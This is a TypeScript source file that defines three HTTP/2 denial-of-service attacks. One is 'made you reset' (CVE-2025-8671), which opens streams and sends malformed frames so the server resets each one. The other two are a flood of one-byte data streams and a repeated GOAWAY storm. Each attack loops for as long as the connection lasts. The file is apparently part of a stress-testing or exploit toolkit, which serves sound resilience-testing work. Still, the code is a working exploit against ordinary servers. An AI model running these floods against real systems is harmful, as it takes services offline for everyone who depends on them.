import { type Attack, callHeaders, repeated } from "./attack.js";
import { FLAG, frame, number32, TYPE } from "./frames.js";

const AT_ONCE = 50;
const PRIORITY = 2;
const LARGEST_INCREMENT = number32(2 ** 31 - 1);
const MESSAGE = Buffer.alloc(5);

/** Faults of a stream, one after the other: a window that overflows, a wrong size, DATA behind the end. */
const FAULTS: readonly ((stream: number) => Buffer)[] = [
  (stream) => frame(TYPE.windowUpdate, 0, stream, LARGEST_INCREMENT),
  (stream) => frame(PRIORITY, 0, stream, Buffer.alloc(4)),
  (stream) => frame(TYPE.data, FLAG.endStream, stream, MESSAGE),
  (stream) => callHeaders(stream, true),
];

/** Calls that are under way, each reset by the server for a fault of another kind (CVE-2025-8671). */
export const protocolFaults: Attack = {
  name: "made you reset, by every fault",
  connections: 2,
  async run(connection) {
    await connection.begin();
    for (let stream = 1; connection.going; stream += 2 * AT_ONCE) {
      const frames = [];
      for (let index = 0; index < AT_ONCE; index++) {
        const id = stream + 2 * index;
        const fault = FAULTS[index % FAULTS.length] as (typeof FAULTS)[number];
        frames.push(callHeaders(id), fault(id), fault(id));
      }
      await connection.write(Buffer.concat(frames), frames.length);
    }
  },
};

/** A thousand calls with an octet each, of which a hundred may be open. */
export const oneByteStreams: Attack = {
  name: "a thousand streams of one byte",
  connections: 4,
  async run(connection) {
    await connection.begin();
    for (let stream = 1; connection.going; stream += 2) {
      const octet = frame(TYPE.data, 0, stream, Buffer.alloc(1));
      await connection.write(Buffer.concat([callHeaders(stream), octet]), 2);
    }
  },
};

/** GOAWAY after GOAWAY, from a client that stays. */
export const goAwayStorm: Attack = {
  name: "GOAWAY storm",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.flood(repeated(frame(TYPE.goaway, 0, 0, Buffer.alloc(8)), 100), 100);
  },
};
